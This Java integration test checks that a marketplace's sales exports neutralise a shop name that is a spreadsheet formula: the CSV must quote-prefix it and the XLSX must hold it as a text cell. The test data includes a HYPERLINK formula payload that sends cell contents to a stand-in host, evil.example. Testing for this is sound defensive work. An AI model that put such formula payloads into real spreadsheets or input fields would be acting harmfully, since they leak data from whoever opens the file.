package vn.langnghe.market.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import vn.langnghe.market.testing.Api;
import vn.langnghe.market.testing.MarketIT;
import vn.langnghe.market.testing.TestOrders;
import vn.langnghe.market.testing.TestShops;

/**
 * The officers' files of a shop whose name is a spreadsheet formula, sold once: the CSV shows the
 * name as text, the XLSX holds it as a text cell, and each file is named for what it holds.
 */
class SalesExportsIT extends MarketIT {

  static final String FORMULA_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")";
  static final TestShops shops = new TestShops(api);
  static final TestOrders orders = new TestOrders(api);

  static String officer;
  static long shopId;

  @BeforeAll
  static void aShopNamedLikeAFormulaSellsOnce() {
    officer = api.login(TestShops.OFFICER, Api.PASSWORD);
    String artisan = api.newAccount("ARTISAN", "formula");
    Api.Reply shop = api.post("/api/my/shop", Map.of("name", FORMULA_NAME,
        "description", "<p>Xưởng thử</p>", "villageSlug", "dong-xam-cham-bac"), artisan);
    assertThat(shop.status()).as(shop.toString()).isEqualTo(201);
    shopId = shop.json().get("id").asLong();
    shops.identifiedAndVerified(artisan, shopId, officer);
    assertThat(api.post("/api/officer/shops/" + shopId + "/approve", Map.of(), officer).status()).isEqualTo(200);
    String sku = TestShops.sku("CSV");
    shops.product(new TestShops.Artisan(artisan, shopId, shop.json().get("slug").asText()), sku, 5, 250_000,
        "Khay bạc chạm");
    Api.Reply placed = orders.placed(api.newAccount("SHOPPER", "formula"), List.of(TestOrders.line(sku, 1)));
    assertThat(orders.pay(placed)).isEqualTo("PAID");
  }

  @Test
  void aShopNamedLikeAFormulaIsPlainTextInTheCsv() throws IOException {
    Api.Reply csv = api.get("/api/reports/sales.csv?groupBy=shop&shopId=" + shopId, officer);
    assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
    byte[] bytes = csv.raw().body();
    List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(
        new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8))).getRecords();
    assertThat(records).extracting(r -> r.get(0)).contains("'" + FORMULA_NAME)
        .noneMatch(cell -> cell.startsWith("="));
  }

  @Test
  void aShopNamedLikeAFormulaIsATextCellInTheWorkbook() throws IOException {
    Api.Reply xlsx = api.get("/api/reports/sales.xlsx?groupBy=shop&shopId=" + shopId, officer);
    assertThat(xlsx.status()).as(xlsx.toString()).isEqualTo(200);
    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx.raw().body()))) {
      Cell name = null;
      for (Row row : workbook.getSheetAt(0)) {
        for (Cell cell : row) {
          assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
          if (cell.getCellType() == CellType.STRING && cell.getStringCellValue().equals(FORMULA_NAME)) {
            name = cell;
          }
        }
      }
      assertThat(name).as("the shop's name as a text cell").isNotNull();
      assertThat(name.getCellStyle().getQuotePrefixed()).isTrue();
    }
  }

  @Test
  void eachExportIsNamedForItsGroupingAndPeriod() {
    Api.Reply byMonth = api.get("/api/reports/sales.csv?groupBy=month,commune&from=2026-01-01&to=2026-06-30", officer);
    assertThat(byMonth.status()).as(byMonth.toString()).isEqualTo(200);
    assertThat(byMonth.header("Content-Disposition")).isEqualTo("attachment;"
        + " filename=\"doanh-so_thang-xa_2026-01-01_2026-06-30.csv\";"
        + " filename*=UTF-8''doanh-s%E1%BB%91_th%C3%A1ng-x%C3%A3_2026-01-01_2026-06-30.csv");
    Api.Reply byDay = api.get("/api/reports/sales.xlsx?groupBy=day&from=2026-01-01&to=2026-01-31&shopId=" + shopId,
        officer);
    assertThat(byDay.status()).as(byDay.toString()).isEqualTo(200);
    assertThat(byDay.header("Content-Disposition"))
        .contains("filename=\"doanh-so_ngay_cua-hang-" + shopId + "_2026-01-01_2026-01-31.xlsx\"");
  }
}
